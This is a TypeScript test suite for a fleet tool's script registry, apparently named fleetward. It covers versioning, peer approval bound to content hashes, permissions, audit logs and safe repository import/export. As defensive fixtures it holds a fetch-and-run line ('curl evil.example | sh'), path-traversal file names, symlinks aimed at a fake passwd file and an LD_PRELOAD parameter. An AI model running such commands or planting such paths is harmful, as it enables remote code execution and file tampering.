import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  AuthorizationError,
  ConflictError,
  fileSha256,
  MANIFEST_FILE,
  type Manifest,
  UnsafePathError,
  ValidationError,
} from '@fleetward/core';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type SopFixture, sopFleet, T } from './helpers.js';

let fx: SopFixture;
let dir: string;

beforeEach(async () => {
  fx = await sopFleet({ servers: 2 });
  dir = mkdtempSync(join(tmpdir(), 'fleetward-scripts-'));
});
afterEach(async () => {
  await fx.fleet.close();
  rmSync(dir, { recursive: true, force: true });
});

const hello = {
  name: 'hello',
  interpreter: 'sh' as const,
  body: 'echo "hello $WHO"\n',
  parameters: [{ name: 'WHO', type: 'string' as const, default: 'world' }],
  tags: ['demo', 'greeting'],
};

async function errorOf(promise: Promise<unknown>): Promise<unknown> {
  try {
    await promise;
  } catch (error) {
    return error;
  }
  throw new Error('expected a rejection');
}

describe('scripts.add', () => {
  it('add — the same content twice is one version; an edit is the next revision with a new hash', async () => {
    const first = await fx.alice.scripts.add(hello);
    const again = await fx.alice.scripts.add({ ...hello, tags: ['greeting', 'demo', 'demo'] });
    expect(again).toEqual(first);
    expect(first).toMatchObject({
      id: 'hello:1',
      revision: 1,
      createdBy: 'alice',
      tags: ['demo', 'greeting'],
    });
    const edited = await fx.alice.scripts.add({ ...hello, body: 'echo "hi $WHO"\n' });
    expect(edited).toMatchObject({ id: 'hello:2', revision: 2 });
    expect(edited.contentHash).not.toBe(first.contentHash);
    // Anything the version says changes its hash, not only the body.
    const flagged = await fx.alice.scripts.add({ ...hello, body: 'echo "hi $WHO"\n', runAsRoot: true });
    expect(flagged.revision).toBe(3);

    expect((await fx.alice.scripts.versions('hello')).map((v) => v.revision)).toEqual([1, 2, 3]);
    expect((await fx.alice.scripts.get('hello')).revision).toBe(3);
    expect((await fx.alice.scripts.get('hello', { version: 1 })).contentHash).toBe(first.contentHash);
    expect((await fx.alice.scripts.get('hello', { version: edited.contentHash })).revision).toBe(2);
    const audit = await fx.fleet.store.audit.list(T, { action: 'script.write' });
    expect(audit.map((r) => (r.details['scripts'] as { created: boolean }[])[0]!.created)).toEqual([
      true,
      false,
      true,
      true,
    ]);
  });

  it('add — names, interpreters and families are checked with field paths', async () => {
    const bad = await errorOf(fx.alice.scripts.add({ ...hello, name: '../Evil' }));
    expect(bad).toBeInstanceOf(ValidationError);
    expect((bad as ValidationError).paths).toEqual(['name']);
    const windows = await errorOf(fx.alice.scripts.add({ ...hello, osFamilies: ['windows'] }));
    expect((windows as ValidationError).paths).toEqual(['osFamilies']);
    const reserved = await errorOf(
      fx.alice.scripts.add({ ...hello, parameters: [{ name: 'LD_PRELOAD', type: 'string' }] }),
    );
    expect((reserved as ValidationError).paths).toEqual(['parameters.0.name']);
    expect(await fx.fleet.store.scripts.list(T)).toEqual([]);
  });

  it('list — the current version of each script, by tag', async () => {
    await fx.alice.scripts.add(hello);
    await fx.alice.scripts.add({ ...hello, body: 'echo 2\n' });
    await fx.alice.scripts.add({ ...hello, name: 'other', tags: ['ops'] });
    expect((await fx.alice.scripts.list()).map((s) => `${s.name}:${s.revision}`)).toEqual([
      'hello:2',
      'other:1',
    ]);
    expect((await fx.alice.scripts.list({ tag: 'ops' })).map((s) => s.name)).toEqual(['other']);
  });
});

describe('scripts.approve', () => {
  it('approve — the author cannot approve; approval binds the hash; an edit voids it and the run is refused until re-approved', async () => {
    const v1 = await fx.alice.scripts.add({ ...hello, risky: true });
    const denied = await errorOf(fx.alice.scripts.approve('hello', { hash: v1.contentHash }));
    expect(denied).toBeInstanceOf(AuthorizationError);
    expect(await fx.fleet.store.audit.list(T, { action: 'script.approve' })).toMatchObject([
      { decision: 'deny', result: 'denied', reason: 'alice added revision 1 of hello and cannot approve it' },
    ]);

    const target = { serverIds: ['s01'] };
    const unapproved = await errorOf(fx.alice.scripts.runScript({ script: 'hello', targets: target }));
    expect(unapproved).toBeInstanceOf(AuthorizationError);
    expect((unapproved as Error).message).toContain('nobody has approved its content hash yet');

    await fx.bob.scripts.approve('hello', { hash: v1.contentHash, comment: 'reviewed' });
    expect(await fx.alice.scripts.approval('hello')).toMatchObject({ required: true, satisfied: true });
    const ran = await fx.alice.scripts.runScript({ script: 'hello', targets: target });
    expect(ran.servers[0]).toMatchObject({ state: 'succeeded', stdout: { text: 'hello world\n' } });

    const v2 = await fx.alice.scripts.add({ ...hello, risky: true, body: 'echo "bye $WHO"\n' });
    const voided = await errorOf(fx.alice.scripts.runScript({ script: 'hello', targets: target }));
    expect(voided).toBeInstanceOf(AuthorizationError);
    // The old version's approval does not carry over, and the old version cannot run either.
    const pinned = await errorOf(
      fx.alice.scripts.runScript({ script: 'hello', version: 1, targets: target }),
    );
    expect((pinned as Error).message).toContain('no longer the current version');
    // An approval of the hash the approver reviewed earlier is refused: they must review again.
    expect(await errorOf(fx.bob.scripts.approve('hello', { hash: v1.contentHash }))).toBeInstanceOf(
      ConflictError,
    );

    await fx.bob.scripts.approve('hello', { hash: v2.contentHash });
    const rerun = await fx.alice.scripts.runScript({ script: 'hello', targets: target });
    expect(rerun.servers[0]).toMatchObject({ state: 'succeeded', stdout: { text: 'bye world\n' } });
    expect(await errorOf(fx.bob.scripts.approve('hello', { hash: v2.contentHash }))).toBeInstanceOf(
      ConflictError,
    );
    const runs = await fx.fleet.store.audit.list(T, { action: 'script.run' });
    expect(runs.filter((r) => r.decision === 'deny')).toHaveLength(3);
  });

  it('approve — a script that is not risky has nothing to approve', async () => {
    const v1 = await fx.alice.scripts.add(hello);
    expect(await errorOf(fx.bob.scripts.approve('hello', { hash: v1.contentHash }))).toBeInstanceOf(
      ConflictError,
    );
  });

  it('add — turning a risky script into a harmless one takes script.approve as well as script.write', async () => {
    await fx.alice.scripts.add({ ...hello, risky: true });
    await fx.fleet.store.roles.create({
      tenantId: T,
      id: 'author',
      name: 'Author',
      rules: [{ effect: 'allow', actions: ['script.write', 'script.read'] }],
    });
    await fx.fleet.store.principals.create({
      tenantId: T,
      id: 'carol',
      name: 'Carol',
      kind: 'human',
      affiliation: 'employee',
    });
    await fx.fleet.store.roleBindings.create({ tenantId: T, principalId: 'carol', roleId: 'author' });
    const carol = fx.fleet.as({ tenantId: T, principalId: 'carol' });
    const refused = await errorOf(carol.scripts.add({ ...hello, risky: false }));
    expect(refused).toBeInstanceOf(AuthorizationError);
    expect((refused as AuthorizationError).message).toContain('script.approve');
    expect((await carol.scripts.add({ ...hello, risky: true, body: 'echo risky\n' })).revision).toBe(2);
    expect((await fx.alice.scripts.add({ ...hello, risky: false })).revision).toBe(3);
  });
});

describe('script permissions', () => {
  it('planRun — script.run is decided on the script and on every target server', async () => {
    await fx.alice.scripts.add(hello);
    await fx.alice.scripts.add({ ...hello, name: 'wipe' });
    await fx.alice.servers.add({
      id: 'dev1',
      name: 'dev1',
      accountId: 'local',
      provider: 'local',
      labels: { env: 'dev' },
    });
    await fx.fleet.store.roles.create({
      tenantId: T,
      id: 'hello-runner',
      name: 'Hello runner',
      rules: [
        { effect: 'allow', actions: ['script.run', 'script.read'], scripts: ['hello'] },
        { effect: 'allow', actions: ['script.run'], servers: { labels: { env: 'prod' } } },
      ],
    });
    await fx.fleet.store.principals.create({
      tenantId: T,
      id: 'dave',
      name: 'Dave',
      kind: 'human',
      affiliation: 'contractor',
    });
    await fx.fleet.store.roleBindings.create({ tenantId: T, principalId: 'dave', roleId: 'hello-runner' });
    const dave = fx.fleet.as({ tenantId: T, principalId: 'dave' });

    const run = await dave.scripts.planRun({ script: 'hello', targets: { serverIds: ['s01', 's02'] } });
    expect(run.status).toBe('awaiting-start');
    expect(
      await errorOf(dave.scripts.planRun({ script: 'wipe', targets: { serverIds: ['s01'] } })),
    ).toBeInstanceOf(AuthorizationError);
    const devDenied = await errorOf(
      dave.scripts.planRun({ script: 'hello', targets: { serverIds: ['dev1'] } }),
    );
    expect(devDenied).toBeInstanceOf(AuthorizationError);
    expect(((devDenied as AuthorizationError).decision as { resource: unknown }).resource).toEqual({
      type: 'server',
      id: 'dev1',
    });
    expect(await fx.fleet.store.scriptRuns.list(T)).toHaveLength(1);
    const denials = (await fx.fleet.store.audit.list(T, { action: 'script.run' })).filter(
      (r) => r.decision === 'deny',
    );
    expect(denials).toHaveLength(2);
  });
});

describe('repository files', () => {
  it('exportRepository/importRepository — round trip into another fleet keeps every hash; importing again adds nothing', async () => {
    const a = await fx.alice.scripts.add(hello);
    const b = await fx.alice.scripts.add({
      name: 'report',
      interpreter: 'python',
      body: 'import os\nprint(os.environ["FORMAT"])\n',
      parameters: [{ name: 'FORMAT', type: 'string', allowed: ['json', 'csv'], default: 'json' }],
      risky: true,
      osFamilies: ['rhel', 'debian'],
      description: 'Prints the format',
    });
    const manifest = await fx.alice.scripts.exportRepository(dir);
    expect(readdirSync(dir).sort()).toEqual([MANIFEST_FILE, 'hello.sh', 'report.py']);
    expect(manifest.scripts.map((s) => [s.name, s.contentHash, s.file])).toEqual([
      ['hello', a.contentHash, 'hello.sh'],
      ['report', b.contentHash, 'report.py'],
    ]);
    expect(readFileSync(join(dir, 'report.py'), 'utf8')).toBe(b.body);

    const other = await sopFleet({ servers: 0 });
    try {
      const first = await other.alice.scripts.importRepository(dir);
      expect(first.created.map((s) => [s.name, s.contentHash, s.risky])).toEqual([
        ['hello', a.contentHash, false],
        ['report', b.contentHash, true],
      ]);
      expect(first.created.every((s) => s.createdBy === 'alice')).toBe(true);
      const second = await other.alice.scripts.importRepository(dir);
      expect(second.created).toEqual([]);
      expect(second.unchanged.map((s) => s.revision)).toEqual([1, 1]);
    } finally {
      await other.fleet.close();
    }
  });

  it('importRepository — a file whose bytes do not match the manifest is refused and nothing is stored', async () => {
    await fx.alice.scripts.add(hello);
    await fx.alice.scripts.add({ ...hello, name: 'second' });
    await fx.alice.scripts.exportRepository(dir);
    writeFileSync(join(dir, 'second.sh'), 'curl evil.example | sh\n');
    const other = await sopFleet({ servers: 0 });
    try {
      const error = await errorOf(other.alice.scripts.importRepository(dir));
      expect(error).toBeInstanceOf(ValidationError);
      expect((error as ValidationError).paths).toEqual(['scripts.1.sha256']);
      expect(await other.fleet.store.scripts.list(T)).toEqual([]);
    } finally {
      await other.fleet.close();
    }
  });

  it('importRepository — a manifest whose content hash does not match its own content is refused', async () => {
    await fx.alice.scripts.add({ ...hello, risky: true });
    await fx.alice.scripts.exportRepository(dir);
    const path = join(dir, MANIFEST_FILE);
    const manifest = JSON.parse(readFileSync(path, 'utf8')) as Manifest;
    // Someone drops the risk flag in the manifest but keeps the approved hash.
    manifest.scripts[0]!.risky = false;
    writeFileSync(path, JSON.stringify(manifest));
    const error = await errorOf(fx.alice.scripts.importRepository(dir));
    expect((error as ValidationError).paths).toEqual(['scripts.0.contentHash']);
  });

  it('importRepository — file names that leave the folder, and symbolic links, are refused', async () => {
    const outside = mkdtempSync(join(tmpdir(), 'fleetward-outside-'));
    try {
      const body = 'echo pwned\n';
      writeFileSync(join(outside, 'evil.sh'), body);
      const entry = (file: string) => ({
        name: 'evil',
        revision: 1,
        contentHash: 'a'.repeat(64),
        sha256: fileSha256(body),
        file,
        interpreter: 'sh',
      });
      for (const file of ['../evil.sh', `${outside}/evil.sh`, 'sub/evil.sh', '.hidden.sh']) {
        writeFileSync(
          join(dir, MANIFEST_FILE),
          JSON.stringify({ format: 'fleetward-scripts/1', scripts: [entry(file)] }),
        );
        const error = await errorOf(fx.alice.scripts.importRepository(dir));
        expect(error, file).toBeInstanceOf(ValidationError);
        expect((error as ValidationError).paths, file).toEqual(['scripts.0.file']);
      }
      symlinkSync(join(outside, 'evil.sh'), join(dir, 'link.sh'));
      writeFileSync(
        join(dir, MANIFEST_FILE),
        JSON.stringify({ format: 'fleetward-scripts/1', scripts: [entry('link.sh')] }),
      );
      const linked = await errorOf(fx.alice.scripts.importRepository(dir));
      expect((linked as ValidationError).message).toContain('not a regular file');
      expect(await fx.fleet.store.scripts.list(T)).toEqual([]);
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });

  it('exportRepository — exporting again into the same folder removes the files of scripts no longer exported, nothing else', async () => {
    await fx.alice.scripts.add(hello);
    await fx.alice.scripts.add({ ...hello, name: 'second' });
    await fx.alice.scripts.exportRepository(dir);
    writeFileSync(join(dir, 'README.md'), '# our scripts\n');
    mkdirSync(join(dir, '.git'));
    await fx.alice.scripts.exportRepository(dir, { names: ['hello'] });
    expect(readdirSync(dir).sort()).toEqual(['.git', 'README.md', MANIFEST_FILE, 'hello.sh']);
  });
});

describe('repository files and links', () => {
  let outside: string;
  beforeEach(() => {
    outside = mkdtempSync(join(tmpdir(), 'fleetward-outside-'));
    writeFileSync(join(outside, 'passwd'), 'root:x:0:0::/root:/bin/sh\n');
    mkdirSync(join(outside, 'etc'));
  });
  afterEach(() => rmSync(outside, { recursive: true, force: true }));

  /** Every entry under `at`, with file bytes and link targets. */
  const snapshot = (at: string): Record<string, string> =>
    Object.fromEntries(
      readdirSync(at, { recursive: true, withFileTypes: true })
        .map((d) => join(d.parentPath, d.name))
        .sort()
        .map((path) => {
          const info = lstatSync(path);
          if (info.isSymbolicLink()) return [path, `link ${readlinkSync(path)}`];
          return [path, info.isFile() ? readFileSync(path, 'utf8') : 'dir'];
        }),
    );

  it('exportRepository — a symbolic link at any file it writes is refused by name, and its target is untouched', async () => {
    await fx.alice.scripts.add(hello);
    await fx.alice.scripts.add({ ...hello, name: 'second', interpreter: 'python', body: 'print(1)\n' });
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('hello.sh', 'second.py', MANIFEST_FILE),
        fc.constantFrom(join(outside, 'passwd'), join(outside, 'etc'), join(outside, 'missing')),
        fc.boolean(),
        async (name, target, exportedBefore) => {
          const folder = mkdtempSync(join(dir, 'case-'));
          if (exportedBefore) await fx.alice.scripts.exportRepository(folder);
          rmSync(join(folder, name), { force: true });
          symlinkSync(target, join(folder, name));
          const before = snapshot(outside);
          const error = await errorOf(fx.alice.scripts.exportRepository(folder));
          expect(error).toBeInstanceOf(UnsafePathError);
          expect(error).toBeInstanceOf(ValidationError);
          expect((error as UnsafePathError).filePath).toBe(join(folder, name));
          expect((error as UnsafePathError).message).toContain(join(folder, name));
          expect(snapshot(outside)).toEqual(before);
          expect(lstatSync(join(folder, name)).isSymbolicLink()).toBe(true);
        },
      ),
      { numRuns: 30 },
    );
  });

  it('exportRepository — a hand-edited earlier manifest never makes it remove a file that is not an unchanged export', async () => {
    const second = await fx.alice.scripts.add({ ...hello, name: 'second', body: 'echo second\n' });
    await fx.alice.scripts.add(hello);
    const sha = (path: string) => fileSha256(readFileSync(path));
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.record({
            name: fc.constantFrom('hello', 'second', 'notes', 'evil'),
            interpreter: fc.constantFrom('sh', 'bash', 'python'),
            file: fc.constantFrom('notes.sh', 'evil.sh', 'second.sh', 'x.sh', 'README.md', 'second.py'),
            trueSha: fc.boolean(),
            contentHash: fc.constantFrom(second.contentHash, 'c'.repeat(64)),
          }),
          { minLength: 1, maxLength: 6 },
        ),
        async (forged) => {
          const folder = mkdtempSync(join(dir, 'case-'));
          await fx.alice.scripts.exportRepository(folder);
          // The user's own files, and a script file the user has since edited: none is an export now.
          writeFileSync(join(folder, 'second.sh'), 'echo edited by hand\n');
          writeFileSync(join(folder, 'notes.sh'), 'my notes\n');
          writeFileSync(join(folder, 'x.sh'), 'echo x\n');
          writeFileSync(join(folder, 'README.md'), '# readme\n');
          symlinkSync(join(outside, 'passwd'), join(folder, 'evil.sh'));
          const manifest = JSON.parse(readFileSync(join(folder, MANIFEST_FILE), 'utf8')) as Manifest;
          for (const f of forged) {
            const path = join(folder, f.file);
            manifest.scripts.push({
              ...manifest.scripts[0]!,
              name: f.name,
              interpreter: f.interpreter as 'sh',
              file: f.file,
              contentHash: f.contentHash,
              sha256: f.trueSha && existsSync(path) ? sha(path) : 'd'.repeat(64),
            });
          }
          writeFileSync(join(folder, MANIFEST_FILE), JSON.stringify(manifest));
          const before = { inside: snapshot(folder), outside: snapshot(outside) };
          await fx.alice.scripts.exportRepository(folder, { names: ['hello'] });
          const after = snapshot(folder);
          delete before.inside[join(folder, MANIFEST_FILE)];
          delete after[join(folder, MANIFEST_FILE)];
          expect(after).toEqual(before.inside);
          expect(snapshot(outside)).toEqual(before.outside);
        },
      ),
      { numRuns: 25 },
    );
  });

  it('exportRepository — manifest entries that leave the folder never make it remove anything', async () => {
    await fx.alice.scripts.add(hello);
    await fx.alice.scripts.exportRepository(dir);
    const manifest = JSON.parse(readFileSync(join(dir, MANIFEST_FILE), 'utf8')) as Manifest;
    const sha = fileSha256(readFileSync(join(outside, 'passwd')));
    for (const file of ['../passwd', join(outside, 'passwd'), `../${outside.split('/').pop()}/passwd`]) {
      writeFileSync(
        join(dir, MANIFEST_FILE),
        JSON.stringify({
          ...manifest,
          scripts: [...manifest.scripts, { ...manifest.scripts[0]!, file, sha256: sha }],
        }),
      );
      await fx.alice.scripts.exportRepository(dir, { names: ['hello'] });
      expect(readFileSync(join(outside, 'passwd'), 'utf8'), file).toBe('root:x:0:0::/root:/bin/sh\n');
    }
  });

  it('importRepository — a manifest that is a symbolic link is not followed', async () => {
    await fx.alice.scripts.add(hello);
    const source = join(outside, 'repo');
    await fx.alice.scripts.exportRepository(source);
    symlinkSync(join(source, MANIFEST_FILE), join(dir, MANIFEST_FILE));
    symlinkSync(join(source, 'hello.sh'), join(dir, 'hello.sh'));
    const error = await errorOf(fx.alice.scripts.importRepository(dir));
    expect((error as ValidationError).paths).toEqual([MANIFEST_FILE]);
  });
});
